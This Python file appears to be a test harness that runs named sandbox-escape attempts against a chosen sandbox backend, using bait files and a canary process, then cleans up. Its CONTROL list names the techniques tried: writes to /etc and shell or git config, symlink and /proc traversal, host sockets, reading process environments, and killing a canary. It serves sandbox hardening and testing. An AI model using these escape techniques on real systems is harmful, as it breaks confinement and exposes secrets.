def workspace() -> Iterator[Path]:
    """A scratch directory the sandbox sees (read-only) at its real path, as it sees a user's home and
    project: not under /tmp, /var/tmp or /run, which are private there. SPECULATE_ESCAPE_BASE chooses it."""
    parent = workspace_parent()
    if parent is None:
        raise RuntimeError(
            f"no writable directory outside the sandbox's private ones among {_workspace_candidates()}"
        )
    base = Path(tempfile.mkdtemp(prefix="speculate-escape-", dir=parent))
    try:
        yield base
    finally:
        shutil.rmtree(base, ignore_errors=True)


# Attempts whose unsandboxed run is harmless here (distinctive names, cleaned up, bait only): the control.
CONTROL = (
    "etc",
    "var-lib",
    "bashrc",
    "git-config-global",
    "symlink-out",
    "proc-self-root",
    "dev-fd-dotdot",
    "host-unix-socket",
    "abstract-socket",
    "loopback-host",
    "proc-environ",
    "sysv-shm",
    "other-overlays",
    "kill-canary",
    *CONTROL_22,
)


@contextlib.contextmanager
def _state_dir(path: Path) -> Iterator[None]:
    """Speculation state (overlays, journals) where the sandbox could see it, unless hidden there."""
    old = os.environ.get(ENV)
    os.environ[ENV] = os.fspath(path)
    try:
        yield
    finally:
        if old is None:
            del os.environ[ENV]
        else:
            os.environ[ENV] = old


def run_all(backend: str, names: list[str] | None = None) -> list[Outcome]:
    """Every attempt (or ``names``) on ``backend``; "none" runs the CONTROL attempts with no sandbox."""
    if backend == "none":
        names = [n for n in (names or CONTROL) if n in CONTROL]
    with workspace() as base, Bait(base) as bait, _state_dir(base / "state"):
        project = make_project(base / "proj")
        chosen = [a for a in ATTEMPTS if names is None or a.name in names]
        chosen.sort(key=lambda a: a.name == "kill-canary")  # last: the others need the canary alive
        out = []
        for a in chosen:
            try:
                out.append(run_attempt(a, bait, project, backend))
            finally:  # an escape's leftovers must not hide the next escape (same name, same content)
                for p in (
                    *Path("/etc").glob(f"speculate-escape-{bait.tag}"),
                    *Path("/var/lib").glob(f"speculate-escape-{bait.tag}"),
                ):
                    shutil.rmtree(p) if p.is_dir() else p.unlink()
        return out


def main(argv: list[str] | None = None) -> int:
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--backend", required=True)
    ap.add_argument("--only", nargs="*", default=None)
    args = ap.parse_args(argv)
    out = run_all(args.backend, args.only)
    json.dump([asdict(o) for o in out], sys.stdout)
    return 0


if __name__ == "__main__":
    sys.exit(main())
